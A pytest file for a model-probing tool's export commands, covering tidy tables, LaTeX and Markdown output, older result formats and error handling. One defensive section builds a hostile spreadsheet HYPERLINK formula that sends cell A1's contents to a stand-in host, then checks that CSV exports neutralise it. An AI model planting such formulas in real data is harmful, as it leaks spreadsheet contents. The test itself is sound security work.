"""`cliposcope export`, `cliposcope.load_results` and the CSV of `table` and `leaderboard`:
one tidy table with numbers as numbers, spreadsheet-safe CSV, paper-style Markdown and
LaTeX, format 1 results, and bad input in one line."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pandas
import pytest

import cliposcope
from cliposcope.app.cli import main
from cliposcope.report.csv_cells import FORMULA_STARTS, is_number_text, neutralise
from cliposcope.report.export import (
    COLUMNS,
    figures,
    latex_escape,
    latex_text,
    markdown_text,
)
from cliposcope.results import ProbeResult

FORMAT_1 = Path(__file__).parents[1] / "fixtures" / "results-format-1"
HOSTILE_SPEC = '=HYPERLINK("http://x"&A1,"click")'
NUMERIC = ("estimate", "ci_low", "ci_high", "count", "n", "position")


def run_cli(capsys, *argv: str) -> tuple[int, str, str]:
    try:
        code = main(list(argv))
    except SystemExit as stop:  # usage mistakes, from argparse
        code = stop.code
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.fixture(scope="module")
def results_folder(tmp_path_factory) -> Path:
    """The paper's battery on the toy model and its random-weight twin, small."""
    out = tmp_path_factory.mktemp("paper") / "results"
    command = ["run", "paper", "--model", "toy:default", "--null", "random-init"]
    command += ["--count", "6", "--tor-sample", "60", "--out", str(out), "--no-cache", "--quiet"]
    assert main(command) == 0
    return out


@pytest.fixture(scope="module")
def exports(results_folder, tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("exports")
    written = {}
    for suffix in ("parquet", "csv", "jsonl"):
        written[suffix] = folder / f"figures.{suffix}"
        assert main(["export", str(results_folder), "--out", str(written[suffix])]) == 0
    return written


def tor_model(results_folder: Path) -> Path:
    (path,) = results_folder.glob("tor_toy-default_model_*.json")
    return path


def count_figures(value) -> int:
    """Independently of the exporter: every mapping with an estimate, wherever it is."""
    if isinstance(value, dict):
        if "estimate" in value:
            return 1
        return sum(count_figures(item) for item in value.values())
    if isinstance(value, list):
        return sum(count_figures(item) for item in value)
    return 0


# --- the tidy table ----------------------------------------------------------------------


@pytest.mark.slow
def test_parquet_and_csv_read_back_with_numeric_columns(exports):
    for frame in (pandas.read_parquet(exports["parquet"]), pandas.read_csv(exports["csv"])):
        assert list(frame.columns) == list(COLUMNS)
        for column in NUMERIC:
            assert pandas.api.types.is_numeric_dtype(frame[column]), (column, frame[column].dtype)
        assert str(frame["estimate"].dtype) == "float64"
        bounded = frame.dropna(subset=["ci_low", "ci_high"])
        assert len(bounded) and bounded["ci_low"].le(bounded["ci_high"]).all()
        assert set(frame["role"]) == {"model", "null:random-init", "verdict", "decomposition"}
    parquet, text = pandas.read_parquet(exports["parquet"]), pandas.read_csv(exports["csv"])
    assert len(parquet) == len(text)
    pandas.testing.assert_series_equal(parquet["estimate"], text["estimate"])


@pytest.mark.slow
def test_one_row_per_figure_and_position_with_the_json_values(exports, results_folder):
    path = tor_model(results_folder)
    metrics = json.loads(path.read_text())["metrics"]
    frame = pandas.read_parquet(exports["parquet"])
    rows = frame[
        (frame["source_file"] == str(path)) & frame["role"].isin(["model", "null:random-init"])
    ]
    assert len(rows) == count_figures(metrics)
    first = rows[(rows["figure"] == "per_position_unconditional") & (rows["position"] == 1)]
    assert len(first) == 1
    expected = metrics["per_position_unconditional"][0]
    assert first["estimate"].item() == expected["estimate"]
    assert [first["ci_low"].item(), first["ci_high"].item()] == expected["ci95"]
    assert (first["count"].item(), first["n"].item()) == (expected["count"], expected["total"])
    positions = rows[rows["figure"] == "per_position_unconditional"]["position"]
    assert sorted(positions) == list(range(1, len(metrics["per_position_unconditional"]) + 1))
    roles = frame[(frame["probe"] == "ior") & (frame["figure"] == "per_role_among_truth")]
    assert set(roles["group"]) == {"large", "small 1", "small 2"}
    assert roles["position"].isna().all()
    scenarios = frame[(frame["probe"] == "matching") & (frame["figure"] == "plain")]
    assert set(scenarios["group"]) == {"scenario_1", "scenario_2"}


def test_run_metadata_and_provenance_columns(exports, results_folder):
    path = tor_model(results_folder)
    record = json.loads(path.read_text())
    frame = pandas.read_parquet(exports["parquet"])
    row = frame[frame["source_file"] == str(path)].iloc[0]
    assert row["identity"] == record["identity"] and row["probe_version"] == 1
    assert row["model_fingerprint"] == record["model"]["weights_hash"]
    assert row["data_fingerprint"] == record["provenance"]["query_fingerprint"]
    for column in ("started_utc", "ended_utc", "cliposcope_version", "host", "device"):
        assert row[column] == record["run"][column]


def test_load_results_equals_the_parquet_export(exports, results_folder):
    loaded = cliposcope.load_results([results_folder])
    pandas.testing.assert_frame_equal(loaded, pandas.read_parquet(exports["parquet"]))


def test_json_lines_hold_the_same_rows(exports):
    lines = exports["jsonl"].read_text().splitlines()
    first = json.loads(lines[0])
    assert len(lines) == len(pandas.read_parquet(exports["parquet"]))
    assert list(first) == list(COLUMNS) and isinstance(first["estimate"], float)


def test_metrics_are_walked_by_position_group_and_name():
    share = {"estimate": 0.5, "ci95": [0.4, 0.6], "count": 5, "total": 10}
    metrics = {
        "per_position": [share, share],
        "by_role": {"large": share, "small 1": share},
        "mean_share_by_position": {"0": share, "1": share},
        "arm": {"accuracy": share, "example": "a dog and a cat", "p_value": 0.01},
        "proxy": {"by_k": {"2": {"first": share}, "3": {"first": share}}},
        "per_object": [{"object": "dog", "win_rate": share, "by_position": [0.1, None]}],
        "grid": [[share, share]],
        "p_value": 0.5,
    }
    found = [(f.name, f.position, f.group) for f in figures(metrics)]
    assert found == [
        ("per_position", 1, None),
        ("per_position", 2, None),
        ("by_role", None, "large"),
        ("by_role", None, "small 1"),
        ("mean_share_by_position", 1, None),
        ("mean_share_by_position", 2, None),
        ("arm.accuracy", None, None),
        ("proxy.by_k.first", None, "k=2"),
        ("proxy.by_k.first", None, "k=3"),
        ("per_object.win_rate", None, "dog"),
        ("grid", 1, "1"),
        ("grid", 1, "2"),
    ]


# --- CSV that a spreadsheet cannot run ---------------------------------------------------


def test_the_neutraliser_quotes_formulas_and_keeps_numbers():
    for formula in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=1", HOSTILE_SPEC):
        assert neutralise(formula) == "'" + formula
    for kept in ("-0.25", "+3", "-1e-05", "toy:default", "", "a=b"):
        assert neutralise(kept) == kept
    assert neutralise(-0.25) == -0.25 and neutralise(None) == "" and neutralise(float("nan")) == ""


def assert_spreadsheet_safe(path: Path) -> list[list[str]]:
    rows = list(csv.reader(path.open(newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or is_number_text(cell), cell
    return rows


@pytest.fixture(scope="module")
def hostile_folder(results_folder, tmp_path_factory) -> Path:
    """The TOR result of a model whose spec is a spreadsheet formula."""
    folder = tmp_path_factory.mktemp("hostile")
    record = json.loads(tor_model(results_folder).read_text())
    record["model"]["spec"] = HOSTILE_SPEC
    (folder / "tor_hostile_model.json").write_text(json.dumps(record))
    return folder


def test_export_csv_neutralises_a_hostile_spec(hostile_folder, tmp_path, capsys):
    out = tmp_path / "figures.csv"
    assert run_cli(capsys, "export", str(hostile_folder), "--out", str(out))[0] == 0
    rows = assert_spreadsheet_safe(out)
    spec_column = rows[0].index("model_spec")
    assert {row[spec_column] for row in rows[1:]} == {"'" + HOSTILE_SPEC}


def test_table_csv_is_the_tidy_export_and_neutralises(hostile_folder, tmp_path, capsys):
    (result,) = hostile_folder.glob("*.json")
    table, export = tmp_path / "table.csv", tmp_path / "export.csv"
    code, out, _ = run_cli(capsys, "table", str(result), "--csv", str(table))
    assert code == 0 and "First Obj %" in out  # the terminal tables stay as they were
    assert run_cli(capsys, "export", str(result), "--out", str(export), "--format", "csv")[0] == 0
    assert table.read_text() == export.read_text()
    rows = assert_spreadsheet_safe(table)
    assert rows[0] == list(COLUMNS) and rows[1][rows[0].index("model_spec")] == "'" + HOSTILE_SPEC


def test_leaderboard_csv_neutralises_a_hostile_spec(hostile_folder, tmp_path, capsys):
    html, table = tmp_path / "board.html", tmp_path / "board.csv"
    code, _, err = run_cli(
        capsys, "leaderboard", str(hostile_folder), "--out", str(html), "--csv", str(table)
    )
    assert code == 0, err
    rows = assert_spreadsheet_safe(table)
    assert rows[1][0].startswith("'" + HOSTILE_SPEC)


# --- paper-style tables ------------------------------------------------------------------

TOR_TITLE = "TOR: which caption position the embedding retrieves (95% CI)"


def handmade(spec: str, role: str, metrics: dict) -> ProbeResult:
    return ProbeResult(
        probe="tor",
        role=role,
        model={"spec": spec, "family": "toy", "weights_hash": "sha256:00"},
        settings={"n": 2, "protocol": "balanced", "seed": 0},
        metrics=metrics,
        provenance={"probe_version": 1, "query_fingerprint": "ab" * 32},
    )


def share(estimate: float, low: float, high: float) -> dict:
    return {"estimate": estimate, "ci95": [low, high], "count": 0, "total": 1190}


HANDMADE = [  # the control first: tables put models before their controls
    handmade(
        "toy:default",
        "null:sum",
        {
            "per_position_unconditional": [share(0.4, 0.372, 0.428)],
            "topn_accuracy": {"estimate": None, "ci95": [None, None], "count": 0, "total": 0},
        },
    ),
    handmade(
        "toy:default",
        "model",
        {
            "per_position_unconditional": [share(0.514, 0.485, 0.543), share(0.3, 0.274, 0.328)],
            "topn_accuracy": {"estimate": 0.25, "ci95": [None, None]},
        },
    ),
]

EXPECTED_MARKDOWN = f"""\
### {TOR_TITLE}: per_position_unconditional

Cells: % (95% CI). Data: n=2, balanced protocol, data abababab.

| Model | First Obj | Second Obj |
|---|---|---|
| toy:default | 51.4 (48.5–54.3) | 30.0 (27.4–32.8) |
| toy:default [null:sum] | 40.0 (37.2–42.8) | - |

### {TOR_TITLE}: topn_accuracy

Cells: % (95% CI). Data: n=2, balanced protocol, data abababab.

| Model | Estimate |
|---|---|
| toy:default | 25.0 |
| toy:default [null:sum] | - |
"""

EXPECTED_LATEX = r"""% cliposcope export: the tables use booktabs (\usepackage{booktabs})

\begin{table}[ht]
\centering
\caption{TOR: which caption position the embedding retrieves (95\% CI): per\_position\_unconditional. Cells: \% (95\% CI). Data: n=2, balanced protocol, data abababab.}
\begin{tabular}{lcc}
\toprule
Model & First Obj & Second Obj \\
\midrule
toy:default & 51.4 (48.5--54.3) & 30.0 (27.4--32.8) \\
toy:default [null:sum] & 40.0 (37.2--42.8) & - \\
\bottomrule
\end{tabular}
\end{table}

\begin{table}[ht]
\centering
\caption{TOR: which caption position the embedding retrieves (95\% CI): topn\_accuracy. Cells: \% (95\% CI). Data: n=2, balanced protocol, data abababab.}
\begin{tabular}{lc}
\toprule
Model & Estimate \\
\midrule
toy:default & 25.0 \\
toy:default [null:sum] & - \\
\bottomrule
\end{tabular}
\end{table}
"""  # noqa: E501


def test_markdown_looks_like_the_papers_tables():
    assert markdown_text(HANDMADE) == EXPECTED_MARKDOWN


def test_latex_looks_like_the_papers_tables():
    assert latex_text(HANDMADE) == EXPECTED_LATEX


def test_latex_and_markdown_escape_specs(tmp_path, capsys):
    specials = "\\&%$#_{}~^"
    assert latex_escape(specials) == (
        r"\textbackslash{}\&\%\$\#\_\{\}\textasciitilde{}\textasciicircum{}"
    )
    odd = handmade("hf:my_model&co%1", "model", {"ap": share(0.5, 0.4, 0.6)})
    path = odd.save(tmp_path / "odd.json")
    out = tmp_path / "odd.tex"
    assert run_cli(capsys, "export", str(path), "--out", str(out))[0] == 0
    assert "\nhf:my\\_model\\&co\\%1 & 50.0 (40.0--60.0) \\\\\n" in out.read_text()
    piped = handmade("st:a|b", "model", {"ap": share(0.5, 0.4, 0.6)})
    assert "| st:a\\|b | 50.0 (40.0–60.0) |" in markdown_text([piped])


# --- older files and bad input -----------------------------------------------------------


def test_a_format_1_result_still_exports(results_folder, tmp_path, capsys):
    record = json.loads(tor_model(results_folder).read_text())
    for key in ("identity", "run", "records"):
        record.pop(key)
    record["format"] = 1
    old = tmp_path / "old" / "tor_old.json"
    old.parent.mkdir()
    old.write_text(json.dumps(record))
    shutil.copytree(FORMAT_1, tmp_path / "old", dirs_exist_ok=True)
    out = tmp_path / "old.parquet"
    assert run_cli(capsys, "export", str(old.parent), "--out", str(out))[0] == 0
    frame = pandas.read_parquet(out)
    mine = frame[frame["source_file"] == str(old)]
    assert len(mine) == count_figures(record["metrics"])
    assert mine[["identity", "started_utc", "host", "git_commit"]].isna().all().all()
    assert set(frame["probe"]) == {"tor"} and len(set(frame["source_file"])) == 3


@pytest.fixture
def newer_result(results_folder, tmp_path) -> Path:
    record = json.loads(tor_model(results_folder).read_text())
    record["format"] = 99
    path = tmp_path / "tor_newer.json"
    path.write_text(json.dumps(record))
    return path


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["export", "{w}/missing.json", "--out", "{w}/x.csv"], "missing.json"),
        (["export", "{w}/empty", "--out", "{w}/x.csv"], "no result files"),
        (["export", "{r}", "--out", "{w}/x.csv", "--format", "xml"], "xml"),
        (["export", "{r}", "--out", "{w}/x.txt"], "x.txt"),
        (["export", "{n}", "--out", "{w}/x.csv"], "newer"),
        (["table", "{n}", "--csv", "{w}/x.csv"], "newer"),
    ],
)
def test_bad_input_ends_in_one_error_line(
    argv, message, results_folder, newer_result, tmp_path, capsys
):
    (tmp_path / "empty").mkdir()
    places = {"w": str(tmp_path), "r": str(results_folder), "n": str(newer_result)}
    code, _, err = run_cli(capsys, *[arg.format(**places) for arg in argv])
    assert code == 2
    assert err.startswith("error:") and err.count("\n") == 1 and message in err
    assert not (tmp_path / "x.csv").exists() and not (tmp_path / "x.txt").exists()


def test_load_results_without_pandas_says_how_to_get_it(results_folder, monkeypatch):
    import importlib.util

    from cliposcope.errors import CliposcopeError

    real = importlib.util.find_spec
    monkeypatch.setattr(
        importlib.util, "find_spec", lambda name, *a: None if name == "pandas" else real(name, *a)
    )
    with pytest.raises(CliposcopeError, match=r"cliposcope\[tables\]"):
        cliposcope.load_results(results_folder)


def test_verdicts_are_rows_with_their_raw_and_holm_adjusted_p_values(exports, results_folder):
    from cliposcope.probes.verdicts import verdicts
    from cliposcope.report.export import read_results

    expected = verdicts(read_results([results_folder]))
    assert expected, "the fixture's folder has a model and its control"
    frame = pandas.read_parquet(exports["parquet"])
    rows = frame[frame["role"] == "verdict"]
    assert len(rows) == len(expected)
    for verdict, (_, row) in zip(expected, rows.iterrows(), strict=True):
        assert row["probe"] == verdict.probe and row["group"] == verdict.control
        assert row["figure_label"] == verdict.bias and row["method"] == verdict.method
        assert row["estimate"] == pytest.approx(verdict.difference)
        assert (row["ci_low"], row["ci_high"]) == pytest.approx(verdict.ci95)
        assert row["p_value"] == pytest.approx(verdict.p_value)
        assert row["p_holm"] == pytest.approx(verdict.p_adjusted)
    tor = frame[(frame["probe"] == "tor") & (frame["figure"] == "first_position_bias")]
    assert set(tor["figure_label"]) == {"first-object preference"}


def test_the_leaderboard_states_each_verdict_with_its_holm_adjusted_p(results_folder):
    from cliposcope.report.leaderboard import build, csv_text

    board = build([results_folder])
    found = [v for cells in board.rows.values() for c in cells.values() for v in c.verdicts]
    assert found and all(v.family == len(found) for v in found)
    text = csv_text(board)
    for verdict in found:
        assert f"Holm p {verdict.p_shown(verdict.p_adjusted)}" in text
